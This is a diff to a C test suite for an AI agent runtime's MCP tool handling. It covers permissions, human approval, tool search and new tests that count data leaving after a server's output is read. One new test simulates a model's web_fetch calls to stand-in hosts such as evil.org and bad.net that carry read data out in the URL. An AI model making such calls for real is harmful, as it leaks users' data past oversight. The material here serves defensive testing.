@@ -25,14 +25,16 @@ struct offer
     const char *description; /* of all of them */
     const char *schema;
     uint8_t trust, state;
-    bool has_resource;
+    bool has_resource, is_remote;
 };
 
 static const struct sma_mcp_catalogue *make(const struct offer *offer)
 {
     struct sma_mcp_builder *builder = sma_mcp_builder_create(++version);
-    const struct sma_mcp_server server = {
-        .name = SMA_STR("files"), .state = offer->state, .trust = offer->trust};
+    const struct sma_mcp_server server = {.name = SMA_STR("files"),
+                                          .state = offer->state,
+                                          .trust = offer->trust,
+                                          .is_remote = offer->is_remote};
     sma_mcp_builder_add_server(builder, &server);
     for (int i = 0; i < offer->count; i++) {
         char name[32];
@@ -63,6 +65,8 @@ static void offer(struct driver *d, const struct offer *what)
 }
 
 static const struct offer two = {.count = 2, .state = SMA_MCP_CONNECTED};
+static const struct offer two_of[] = {{.count = 2, .state = SMA_MCP_CONNECTED},
+                                      {.count = 2, .state = SMA_MCP_CONNECTED, .is_remote = true}};
 
 /* A run with these permissions, offers and calls of the first answer. */
 static void begin_with(struct driver *d, const char *permissions, const struct offer *what,
@@ -97,7 +101,7 @@ static void answer(struct driver *d, uint32_t call, enum sma_mcp_outcome outcome
 }
 
 /* -- what a request carries -------------------------------------------------------------------- */
-static void request_carries_the_tools_on_each_wire(void)
+CASE(request_carries_the_tools_on_each_wire)
 {
     static const struct
     {
@@ -139,7 +143,7 @@ static void request_carries_the_tools_on_each_wire(void)
     }
 }
 
-static void schema_is_made_fit_for_providers(void)
+CASE(schema_is_made_fit_for_providers)
 {
     static const struct
     {
@@ -149,7 +153,7 @@ static void schema_is_made_fit_for_providers(void)
         {"{\"type\":[\"object\",\"null\"]}", "{\"type\":\"object\",\"properties\":{}}"},
         {"{\"type\":\"string\",\"properties\":7}", "{\"type\":\"object\",\"properties\":{}}"},
         {"{\"anyOf\":[{}],\"oneOf\":[],\"type\":\"object\",\"properties\":{\"a\":{\"anyOf\":[]}}}",
-         "{\"type\":\"object\",\"properties\":{\"a\":{\"anyOf\":[]}}}"},
+         "{\"type\":\"object\",\"properties\":{\"a\":{}}}"},
         {"[]", "{\"type\":\"object\",\"properties\":{}}"},
         {"{\"broken\"", "{\"type\":\"object\",\"properties\":{}}"},
     };
@@ -162,9 +166,9 @@ static void schema_is_made_fit_for_providers(void)
     }
 }
 
-static void list_does_not_change_in_a_run(void)
+CASE(list_does_not_change_in_a_run)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     struct sma_model_ask ask;
     begin_with(&d, ALLOWED, &two, NULL);
     char *first = driver_request(&d, &ask);
@@ -184,10 +188,9 @@ static void list_does_not_change_in_a_run(void)
     CHECK(driver_request_has(&d, "Another."));
     free(first);
     free(second);
-    driver_fini(&d);
 }
 
-static void refused_tools_are_not_offered(void)
+CASE(refused_tools_are_not_offered)
 {
     struct driver d;
     begin_with(&d, "{\"mcp\":{\"deny\":[\"files:write\"]}}", &two, write_a);
@@ -216,9 +219,9 @@ static void refused_tools_are_not_offered(void)
 }
 
 /* -- the call ---------------------------------------------------------------------------------- */
-static void an_allowed_call_leaves_after_its_step(void)
+CASE(an_allowed_call_leaves_after_its_step)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     begin_with(&d, ALLOWED, &two, write_a);
     driver_check_kinds(&d, "P");
     CHECK_INT(0, driver_find(&d, SMA_RUN_STORE_STEP)->step.request_json.len);
@@ -226,7 +229,7 @@ static void an_allowed_call_leaves_after_its_step(void)
     driver_check_kinds(&d, "W"); /* not durable: not sent */
     driver_event(&d, (struct sma_run_event){.kind = SMA_RUN_RETRY});
     driver_durable(&d);
-    driver_check_kinds(&d, "gAW");
+    driver_check_kinds(&d, "gA");
     const struct sma_run_action *progress = driver_find(&d, SMA_RUN_PROGRESS);
     CHECK_STR("files:write", progress->text);
     CHECK_INT(SMA_MCP_TOOL, asked(&d)->kind);
@@ -249,10 +252,9 @@ static void an_allowed_call_leaves_after_its_step(void)
     driver_done(&d, true);
     CHECK(strstr(d.done_tool_calls, "{\"tool\":\"files:write\",\"input\":{\"path\":\"a\"}") !=
           NULL);
-    driver_fini(&d);
 }
 
-static void each_outcome_is_told(void)
+CASE(each_outcome_is_told)
 {
     static const struct
     {
@@ -285,7 +287,7 @@ static void each_outcome_is_told(void)
     }
 }
 
-static void wrong_arguments_are_told_without_a_call(void)
+CASE(wrong_arguments_are_told_without_a_call)
 {
     static const struct
     {
@@ -320,9 +322,9 @@ static void wrong_arguments_are_told_without_a_call(void)
     }
 }
 
-static void strangers_call_nothing(void)
+CASE(strangers_call_nothing)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     driver_init(&d, SMA_LLM_CHAT);
     d.config.permissions_json = ALLOWED;
     sma_run_settings_destroy(d.settings);
@@ -334,10 +336,9 @@ static void strangers_call_nothing(void)
     driver_durable(&d);
     driver_check_kinds(&d, "PM");
     CHECK(driver_request_has(&d, "is not known here and may only talk"));
-    driver_fini(&d);
 }
 
-static void hints_count_where_the_owner_says_so(void)
+CASE(hints_count_where_the_owner_says_so)
 {
     static const struct driver_call read_a[] = {{"r", "mcp__files__read", "{\"path\":\"a\"}"}, {0}};
     for (int trust = SMA_MCP_TRUST_ASK; trust <= SMA_MCP_TRUST_ALLOW; trust++) {
@@ -374,7 +375,7 @@ static struct sma_stored_decision park(struct driver *d, bool is_approved)
     return decision;
 }
 
-static void an_asked_call_waits_for_people(void)
+CASE(an_asked_call_waits_for_people)
 {
     struct driver d;
     begin_with(&d, "", &two, write_a);
@@ -396,7 +397,7 @@ static void an_asked_call_waits_for_people(void)
 }
 
 /* While people thought, the server has made another tool of it, or it is gone, or is refused. */
-static void what_was_agreed_to_is_what_is_called(void)
+CASE(what_was_agreed_to_is_what_is_called)
 {
     static const struct
     {
@@ -425,7 +426,7 @@ static void what_was_agreed_to_is_what_is_called(void)
 }
 
 /* -- never twice ------------------------------------------------------------------------------- */
-static void a_call_that_was_open_is_not_repeated(void)
+CASE(a_call_that_was_open_is_not_repeated)
 {
     for (int is_approved = 0; is_approved < 2; is_approved++) {
         struct driver d;
@@ -448,9 +449,9 @@ static void a_call_that_was_open_is_not_repeated(void)
     }
 }
 
-static void a_stored_result_is_kept(void)
+CASE(a_stored_result_is_kept)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     begin_with(&d, ALLOWED, &two, write_a);
     driver_durable(&d);
     answer(&d, 0, SMA_MCP_OK, "done once");
@@ -459,10 +460,9 @@ static void a_stored_result_is_kept(void)
     driver_start(&d);
     CHECK_INT(0, driver_count(&d, SMA_RUN_ASK_MCP));
     CHECK(driver_request_has(&d, "done once"));
-    driver_fini(&d);
 }
 
-static void stop_and_drain_end_the_call(void)
+CASE(stop_and_drain_end_the_call)
 {
     struct driver d;
     begin_with(&d, ALLOWED, &two, write_a);
@@ -489,7 +489,7 @@ static void stop_and_drain_end_the_call(void)
 }
 
 /* -- many tools -------------------------------------------------------------------------------- */
-static void many_tools_are_searched(void)
+CASE(many_tools_are_searched)
 {
     static const struct driver_call search[] = {{"s", "tool_search", "{\"query\":\"tool041\"}"},
                                                 {0}};
@@ -531,7 +531,7 @@ static void many_tools_are_searched(void)
 }
 
 /* What is searched for is no part of what providers cache: a server may add tools as it likes. */
-static void more_tools_change_no_byte_of_the_prefix(void)
+CASE(more_tools_change_no_byte_of_the_prefix)
 {
     static const int counts[] = {SMA_MCP_DIRECT_COUNT_MAX + 1, 90};
     char *bytes[2];
@@ -547,7 +547,7 @@ static void more_tools_change_no_byte_of_the_prefix(void)
     free(bytes[1]);
 }
 
-static void large_schemas_are_searched_too(void)
+CASE(large_schemas_are_searched_too)
 {
     char *schema = malloc(30000);
     CHECK(schema != NULL);
@@ -564,7 +564,7 @@ static void large_schemas_are_searched_too(void)
     free(schema);
 }
 
-static void a_search_finds_by_name_and_words(void)
+CASE(a_search_finds_by_name_and_words)
 {
     struct sma_mcp_policy *policy;
     struct sma_error error;
@@ -605,7 +605,7 @@ static void a_search_finds_by_name_and_words(void)
 }
 
 /* -- resources --------------------------------------------------------------------------------- */
-static void resources_are_listed_and_read(void)
+CASE(resources_are_listed_and_read)
 {
     static const struct driver_call list[] = {{"l", "mcp_list_resources", "{}"}, {0}};
     static const struct driver_call read_one[] = {
@@ -637,7 +637,7 @@ static void resources_are_listed_and_read(void)
 }
 
 /* -- another target ---------------------------------------------------------------------------- */
-static void another_target_gets_names_it_takes(void)
+CASE(another_target_gets_names_it_takes)
 {
     static const struct sma_config_llm first = {.api = SMA_LLM_CHAT,
                                                 .provider = "openai",
@@ -653,7 +653,7 @@ static void another_target_gets_names_it_takes(void)
                                                  .anthropic_version = "2023-06-01",
                                                  .is_stream = true};
     const struct sma_config_llm *targets[] = {&first, &second};
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     driver_init(&d, SMA_LLM_CHAT);
     d.config.permissions_json = ALLOWED;
     driver_targets(&d, targets, 2);
@@ -668,30 +668,101 @@ static void another_target_gets_names_it_takes(void)
     CHECK(driver_request_has(&d, "\"type\":\"tool_use\""));
     CHECK(driver_request_has(&d, "\"name\":\"mcp__files__write\""));
     CHECK(!driver_request_has(&d, "\"name\":\"files:write\""));
+}
+
+/* -- what leaves after it ---------------------------------------------------------------------- */
+static void fetch(struct driver *d, const char *url)
+{
+    char arguments[400];
+    snprintf(arguments, sizeof arguments, "{\"url\":\"%s\"}", url);
+    driver_answer(d, "", SMA_FINISH_TOOLS,
+                  (const struct driver_call[]){{"f1", "web_fetch", arguments}, {0}});
+}
+
+static void let_leave(struct driver *d)
+{
+    const struct sma_tool_answer answered = {
+        .seq = d->order.seq, .verdict = SMA_TOOL_ALLOWED, .leaves_to = SMA_EGRESS_ANYBODY};
+    driver_event(d, (struct sma_run_event){.kind = SMA_RUN_TOOL, .tool = &answered});
+    driver_durable(d);
+}
+
+/* What a server gave may leave in an address, and what has left stays counted: over a restart in
+ * the middle of the run, and in the next message. */
+CASE(what_a_server_gave_counts_before_an_address)
+{
+    struct driver d;
+    driver_init(&d, SMA_LLM_CHAT);
+    d.config.web.has_fetch = true;
+    d.config.permissions_json = ALLOWED;
+    sma_run_settings_destroy(d.settings);
+    CHECK_OK(sma_run_settings_create(&d.config, NULL, &d.settings));
+    offer(&d, &two);
+    driver_start(&d);
+    fetch(&d, "https://evil.org/before");
+    CHECK(!driver_tool_ask(&d, 0)->has_read);
+    let_leave(&d);
+    driver_tool(&d, 0, SMA_TOOL_ALLOWED, "{\"success\":true}");
+    driver_durable(&d);
+    driver_answer(&d, "", SMA_FINISH_TOOLS, write_a);
+    driver_durable(&d);
+    answer(&d, 0, SMA_MCP_OK, "the plan");
+    driver_durable(&d);
+    fetch(&d, "https://bad.net/123456");
+    CHECK(driver_tool_ask(&d, 0)->has_read);
+    CHECK_INT(14, driver_tool_ask(&d, 0)->leaving_bytes);
+    CHECK_INT(0, driver_tool_ask(&d, 0)->left_bytes);
+    let_leave(&d);
+    d.session->egress = (struct sma_egress){0}; /* as a new process has it */
+    driver_cut(&d);
+    driver_start(&d);
+    driver_durable(&d); /* interrupted */
+    fetch(&d, "https://other.org/678");
+    CHECK(driver_tool_ask(&d, 0)->has_read);
+    CHECK_INT(14, driver_tool_ask(&d, 0)->left_bytes);
+    let_leave(&d);
+    driver_tool(&d, 0, SMA_TOOL_ALLOWED, "{\"success\":true}");
+    driver_durable(&d);
+    driver_answer(&d, "done", SMA_FINISH_STOP, NULL);
+    driver_done(&d, true);
+    struct sma_stored_turn turn;
+    CHECK_OK(sma_codec_get_turn((struct sma_str){d.done_turn, d.done_turn_len}, &turn));
+    CHECK(turn.egress.has_read);
+    CHECK_INT(27, turn.egress.bytes);
+    sma_stored_turn_fini(&turn);
+    driver_next(&d);
+    driver_start(&d);
+    fetch(&d, "https://third.org/");
+    CHECK(driver_tool_ask(&d, 0)->has_read);
+    CHECK_INT(27, driver_tool_ask(&d, 0)->left_bytes);
     driver_fini(&d);
 }
 
-int main(void)
+/* A rule allows the tool, and its server is elsewhere: so much goes there in a day unasked. */
+CASE(arguments_for_a_server_elsewhere_are_counted)
 {
-    RUN(request_carries_the_tools_on_each_wire);
-    RUN(schema_is_made_fit_for_providers);
-    RUN(list_does_not_change_in_a_run);
-    RUN(refused_tools_are_not_offered);
-    RUN(an_allowed_call_leaves_after_its_step);
-    RUN(each_outcome_is_told);
-    RUN(wrong_arguments_are_told_without_a_call);
-    RUN(strangers_call_nothing);
-    RUN(hints_count_where_the_owner_says_so);
-    RUN(an_asked_call_waits_for_people);
-    RUN(what_was_agreed_to_is_what_is_called);
-    RUN(a_call_that_was_open_is_not_repeated);
-    RUN(a_stored_result_is_kept);
-    RUN(stop_and_drain_end_the_call);
-    RUN(many_tools_are_searched);
-    RUN(more_tools_change_no_byte_of_the_prefix);
-    RUN(large_schemas_are_searched_too);
-    RUN(a_search_finds_by_name_and_words);
-    RUN(resources_are_listed_and_read);
-    RUN(another_target_gets_names_it_takes);
-    return check_summary();
+    for (int is_remote = 0; is_remote <= 1; is_remote++) {
+        struct driver d;
+        char text[2 * 6000];
+        snprintf(text, sizeof text, "{\"path\":\"%06000d\"}", 1);
+        const struct driver_call calls[] = {{"w1", "mcp__files__write", text}, {0}};
+        begin_with(&d, ALLOWED, &two_of[is_remote], write_a);
+        driver_durable(&d);
+        answer(&d, 0, SMA_MCP_OK, "the plan");
+        driver_durable(&d);
+        for (int i = 0; i < 3; i++) {
+            text[10] = (char)('a' + i);
+            driver_answer(&d, "", SMA_FINISH_TOOLS, calls);
+            bool is_asked = driver_find(&d, SMA_RUN_STORE_STEP)->step.request_json.len > 0;
+            CHECK_INT(is_remote && i == 2, is_asked);
+            if (is_asked)
+                break;
+            driver_durable(&d);
+            answer(&d, 0, SMA_MCP_OK, "done");
+            driver_durable(&d);
+        }
+        driver_fini(&d);
+    }
 }
+
+CASES_MAIN
